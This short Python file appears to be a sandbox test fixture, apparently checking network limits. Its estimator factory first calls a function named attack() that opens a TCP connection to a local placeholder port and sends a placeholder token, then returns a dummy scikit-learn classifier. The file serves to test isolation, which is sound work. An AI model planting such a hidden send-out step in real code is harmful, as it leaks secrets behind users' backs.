"""network: opens a TCP connection

Passes at: limits.
Quick: yes
"""

import socket

from sklearn.dummy import DummyClassifier


def attack():
    socket.create_connection(("127.0.0.1", int("@port@")), timeout=2).send(b"@token@")


def get_estimator():
    attack()
    return DummyClassifier()
